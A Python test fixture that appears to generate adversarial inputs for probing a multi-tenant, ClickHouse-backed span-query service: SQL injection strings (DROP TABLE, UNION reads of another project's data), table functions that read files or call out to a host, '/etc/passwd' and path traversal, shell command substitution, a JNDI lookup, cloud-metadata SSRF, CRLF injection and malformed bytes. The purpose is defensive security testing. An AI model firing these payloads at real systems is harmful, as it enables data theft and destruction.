"""Strings that nobody should get anything by: SQL, files, addresses, other people's ids, and text that is none.

`strings(...)` is deterministic. Bytes, because a URL carries bytes: some of them are not UTF-8.
"""

from __future__ import annotations

SQL = (
    "'",
    "''",
    '"',
    "`",
    "\\",
    "\\'",
    "';--",
    "' OR '1'='1",
    "' OR 1=1 -- ",
    '" OR ""="',
    "') OR ('1'='1",
    "1 OR 1=1",
    "1; DROP TABLE spans",
    "'; DROP TABLE spans; --",
    "'); TRUNCATE TABLE scores; --",
    "'; INSERT INTO scores SELECT * FROM scores; --",
    "'; ALTER TABLE spans DELETE WHERE 1; --",
    "1 UNION ALL SELECT * FROM spans",
    "' UNION ALL SELECT input_text FROM spans WHERE project_id = 'other' --",
    "spans WHERE project_id = 'other'",
    "(SELECT any(input_text) FROM spans)",
    "(SELECT any(input_text) FROM spans WHERE project_id = 'other')",
    "input_text",
    "project_id",
    "other",
    "any(input_text)",
    "count()",
    "version()",
    "currentUser()",
    "getSetting('max_threads')",
    "sleepEachRow(3)",
    "sleep(3)",
    "throwIf(1)",
    "file('{canary}')",
    "file('{canary}', 'LineAsString')",
    "SELECT * FROM file('{canary}', 'LineAsString')",
    "' || file('{canary}') || '",
    "file('/etc/passwd')",
    "url('{address}', 'LineAsString')",
    "SELECT * FROM url('{address}', 'LineAsString', 's String')",
    "' || (SELECT any(s) FROM url('{address}', 'LineAsString', 's String')) || '",
    "s3('{address}', 'CSV')",
    "remote('{host}', system.one)",
    "mysql('{host}', 'a', 'b', 'c', 'd')",
    "postgresql('{host}', 'a', 'b', 'c', 'd')",
    "executable('touch {canary}.made', 'CSV', 's String')",
    "dictGet('a', 'b', 1)",
    "SETTINGS readonly=0",
    "1 SETTINGS max_execution_time=0",
    "FORMAT Native",
    "INTO OUTFILE '{canary}.out'",
    "/* */",
    "/*",
    "--",
    "#",
    ";",
    "{{x:String}}",
    "{{project_id:String}}",
    "{{project_id:Identifier}}",
    "{{c0:Int64}}",
    "{{p0:String}}",
    "{{x}}",
    "{{}}",
    "{{0}}",
    "{{0.__class__}}",
    "{{caller.project_id}}",
    "%s",
    "%(x)s",
    "%d%n%x",
    "${{jndi:ldap://{host}/a}}",
    "$(touch {canary}.made)",
    "`touch {canary}.made`",
    "| cat /etc/passwd",
    "<script>alert(1)</script>",
    "{address}",
    "file://{canary}",
    "http://169.254.169.254/latest/meta-data/",
    "gopher://{host}/_",
    "//{host}/",
    "{canary}",
    "../../../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "/dev/zero",
    "%",
    "_",
    "%%%%%%%%%%",
    "a%_b",
    ".*",
    "(a+)+$",
    "(.*a){{20}}",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "[[:alpha:]]*",
    "(?P<x>",
    "*",
    "?",
    "~",
    "@",
    "null",
    "NULL",
    "None",
    "undefined",
    "true",
    "[]",
    "[object Object]",
    '{{"$gt": ""}}',
    "[$ne]=1",
)
"""Each with `{canary}` (a file), `{address}` (a URL of our socket), `{host}` (its host and port); braces doubled."""

WRAPPED = ("%s", "request_count,%s", "newest'%s", 'attr["%s"]', "1790000000 %s")
"""How a fragment meets what a parameter expects."""

NUMBERS = (
    "0", "-0", "-1", "+1", "1e5", "1e-400", "1e400", "1E309", "-1e309", "0x10", "0b1", "1_000", "1,5", " 1",
    "1 ", "\t1", "1\n", "NaN", "nan", "inf", "-Infinity", "infinity", "9" * 19, "9" * 20, "9" * 400, "9" * 5000,
    "-" + "9" * 19, "9223372036854775807", "9223372036854775808", "-9223372036854775808",
    "-9223372036854775809", "18446744073709551615", "18446744073709551616", "1790000000.123456789123456789",
    "9999999999", "10000000000", "2147483648", "4294967296", "0.0000000000000000000000000000001",
    "1.7976931348623157e308", "5e-324", "00000000001", "1.", ".5", "1..2", "1/0", "0/0", "١٢٣", "１２３", "²", "½",
    "五", "1s", "1000000000d", "0.0001s", "1d1h", "s", "-5m", "1e3s", "9" * 400 + "d",
)  # fmt: skip

TIMES = (
    "2026-13-01T00:00:00Z", "2026-02-30T00:00:00Z", "0000-01-01T00:00:00Z", "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59Z", "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59", "10000-01-01T00:00:00Z",
    "2026-11-23T25:00:00Z", "2026-11-23T10:00:60Z", "2026-11-23T10:00:00", "2026-11-23",
    "2026-11-23T10:00:00.1234567890123Z", "now", "today", "-1h", "2026-11-23T10:00:00+99:99",
    "2026-11-23T10:00:00z", "2026-11-23t10:00:00Z", "２０２６-11-23T10:00:00Z", "2300-01-01T00:00:00Z",
    "1677-09-21T00:12:43Z", "2262-04-11T23:47:16.854775807Z", "2262-04-11T23:47:16.854775808Z",
    "1969-12-31T23:59:59Z",
)  # fmt: skip

CURSORS = (
    "1790000000000000000.{trace}", "1790000000000000000-{trace}-{span}", "1790000000000000000-{trace}",
    "9223372036854775807.{trace}", "9223372036854775808.{trace}", "-9223372036854775809.{trace}", "-1.{trace}",
    "0.{trace}", "9223372036854775807-{trace}-{span}", "9999999999999999999-{trace}-{span}",
    "9223372036854775806-{trace}", "9223372036854775807-{trace}",
    "1790000000000000000.{trace}.{span}.truncated.x", "0.{trace}.{span}.a.b",
    "9223372036854775807.{trace}.{span}.a.' OR 1=1 --", "9999999999999999999.{trace}.{span}.a.b",
    "1790000000000000000.{trace}' OR '1'='1", "1790000000000000000.{trace}\n", "١٢٣.{trace}", "{trace}",
    "{span}", "{trace}\n", "{trace} ", "0x{trace}", "eyJhIjoxfQ==", "1790000000000000000-{trace}-{span}\x00",
)  # fmt: skip
"""With ids of another project's span."""

TEXTS = (
    "\x00", "a\x00b", "\x00" * 1000, "\ufeff", "\ufeffrequest_count", "\u202eabc",
    "\u202a\u202b\u202c\u202d\u2066", "\u200b", "\u200d\u200d", "\u0000'", "\n", "\r\n", "\r\nSet-Cookie: a=b",
    "\x1b[31m", "\x7f", "\x08", "\u2028", "\u2029", "\uffff", "\ufffd", "\U0010ffff", "👩‍👩‍👧‍👦", "🏳️‍🌈" * 100,
    "Z̷̛̙a̸l̶g̴o" * 50, "ﷺ" * 100, "İ", "ß", "ſ", "K", "ǆ", "\u0130" * 1000, "ﬃ", "é", "e\u0301", "مرحبا",
    "שלום", "漢字" * 200, "a" * 1000, "a" * 1001, "a" * 100_000, "é" * 50_000, "👍" * 25_000, '"' * 1001,
    "," * 10_000, "a," * 5000, "(" * 5000, "(" * 100_000, "[" * 5000, "{" * 5000, '{"a":' * 1000, "not " * 5000,
    "((" * 500 + "))" * 500, "attr[" * 500, 'attr["' + "k" * 10_000 + '"]', 'attr["\\u0000"]',
    'attr["\\ud800"]', 'attr["\\ud83d\\ude00"]', 'attr["', 'attr[""]', 'attr["a"', "attr[a]", 'resource["x"]',
    "attr['x']", 'attr["x"]["y"]', '"', '"\\"', "\\u0027", "\\x27", "%27", "%2527", "%00", "&#39;", "name,name",
    "name,name,name,name,name", ",", ",,,", " ", "\t", "request_count,", "request_count,request_count",
    "REQUEST_COUNT", "request_count;", "newest ", "NEWEST", "Newest\n", "jsonl\x00", "csv'", "../csv",
    "parquet;x",
)  # fmt: skip

RAW = (
    b"\xc0\xaf", b"\xc0\x80", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf", b"\xed\xa0\x80", b"\xed\xbf\xbf",
    b"\xed\xa0\xbd\xed\xb8\x80", b"\xff", b"\xfe\xff", b"\xff\xfe\x00\x00", b"\x80", b"a\x80b",
    b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"\xe2\x82", b"\xc3\x28", b"'\xbf\x27", b"\xbf\x27 OR 1=1",
    b"\x00\xff" * 500, b"\xc3" * 1000, bytes(range(256)),
)  # fmt: skip
"""Not UTF-8."""


def strings(canary: str, host: str, trace: str, span: str) -> list[bytes]:
    """All of them: `canary` is a file's path, `host` our socket's, `trace` and `span` ids of another project."""
    filled = {"canary": canary, "address": f"http://{host}/x", "host": host}
    fragments = [fragment.format_map(filled) for fragment in SQL]
    wrapped = [outside.replace("%s", fragment) for outside in WRAPPED for fragment in fragments]
    cursors = [cursor.format(trace=trace, span=span) for cursor in CURSORS]
    texts = [*wrapped, *NUMBERS, *TIMES, *cursors, *TEXTS]
    return [*(text.encode() for text in texts), *RAW]
